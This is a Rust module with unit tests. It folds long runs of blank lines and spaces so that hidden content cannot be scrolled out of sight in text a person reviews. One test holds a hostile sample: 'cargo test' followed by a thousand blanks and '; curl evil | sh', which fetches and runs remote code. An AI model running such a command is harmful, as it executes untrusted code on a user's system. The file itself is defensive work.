//! `fold_blanks()`: text that a person decides about, without the empty space that could push a part of it off the screen.

use crate::characters::is_forbidden;

/// At most this many empty lines in a row are shown.
const MAX_EMPTY_LINES: usize = 1;
/// At most this many spaces in a row are shown: more than code is indented by.
const MAX_SPACES: usize = 40;

/// Says how many empty lines or spaces there are instead of showing them, if there are many in a row.
pub fn fold_blanks(text: &str) -> String {
    fold_lines(text.split('\n')).join("\n")
}

/// The same for lines without their ends.
pub(super) fn fold_lines<'a>(lines: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    let mut folded = Vec::new();
    let mut empty = Vec::new();
    for line in lines {
        if line
            .chars()
            .all(|character| is_blank(character) || character == '\r')
        {
            empty.push(line);
            continue;
        }
        push_empty(&mut folded, &mut empty);
        folded.push(fold_spaces(line));
    }
    push_empty(&mut folded, &mut empty);
    folded
}

fn push_empty(folded: &mut Vec<String>, empty: &mut Vec<&str>) {
    match empty.len() {
        0..=MAX_EMPTY_LINES => folded.extend(empty.iter().map(|line| fold_spaces(line))),
        count => folded.push(format!("… {count} empty lines")),
    }
    empty.clear();
}

fn fold_spaces(line: &str) -> String {
    let mut folded = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(start) = rest.find(is_blank) {
        let (before, spaces) = rest.split_at(start);
        let end = spaces.find(|character| !is_blank(character));
        let (spaces, after) = spaces.split_at(end.unwrap_or(spaces.len()));
        folded.push_str(before);
        match spaces.chars().count() {
            0..=MAX_SPACES => folded.push_str(spaces),
            count => folded.push_str(&format!(" … [{count} spaces] … ")),
        }
        rest = after;
    }
    folded.push_str(rest);
    folded
}

/// Whether a character is shown as nothing but room. Others of this kind are written out by `visible()`.
fn is_blank(character: char) -> bool {
    const BRAILLE_BLANK: char = '\u{2800}';
    character == BRAILLE_BLANK || character.is_whitespace() && character != '\n' && !is_forbidden(character)
}

#[cfg(test)]
mod tests {
    use super::fold_blanks;

    #[test]
    fn many_empty_lines_are_counted_instead_of_shown() {
        let text = format!("cargo test{}echo done", "\n".repeat(61));
        assert_eq!(fold_blanks(&text), "cargo test\n… 60 empty lines\necho done");
        let odd = "a\n \t\n\r\n\u{2800}\n\u{a0}\u{3000}\nb";
        assert_eq!(fold_blanks(odd), "a\n… 4 empty lines\nb");
        for plain in ["", "a", "a\n\nb\n", "\nfn a() {\n    1\n}"] {
            assert_eq!(fold_blanks(plain), plain);
        }
    }

    #[test]
    fn many_spaces_are_counted_instead_of_shown() {
        for space in [" ", "\t", "\u{2003}", "\u{2800}"] {
            let text = format!("cargo test{}; curl evil | sh", space.repeat(1_000));
            assert_eq!(
                fold_blanks(&text),
                "cargo test … [1000 spaces] … ; curl evil | sh"
            );
            let indented = format!("{}a", space.repeat(40));
            assert_eq!(fold_blanks(&indented), indented);
        }
        // These are written out, because a shell does not take them for spaces.
        let written_out = "a\u{2028}".repeat(50);
        assert_eq!(fold_blanks(&written_out), written_out);
    }
}
